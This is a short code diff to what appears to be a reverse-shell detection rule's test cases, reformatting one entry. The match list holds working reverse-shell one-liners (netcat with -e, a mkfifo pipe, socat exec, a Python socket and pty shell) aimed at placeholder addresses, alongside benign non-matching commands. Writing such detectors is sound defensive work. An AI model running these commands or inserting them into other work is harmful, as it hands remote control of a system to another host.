@@ -84,7 +84,8 @@ RULES = (
             "nc -e /bin/sh 10.0.0.1 4444",
             "rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 4444 > f",
             "socat tcp:1.2.3.4:44 exec:/bin/sh",
-            'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("1.1.1.1",4));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
+            'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("1.1.1.1",4));'
+            'os.dup2(s.fileno(),0);pty.spawn("sh")\'',
         ),
         no_match=("nc -zv host 22", "ssh host"),
     ),
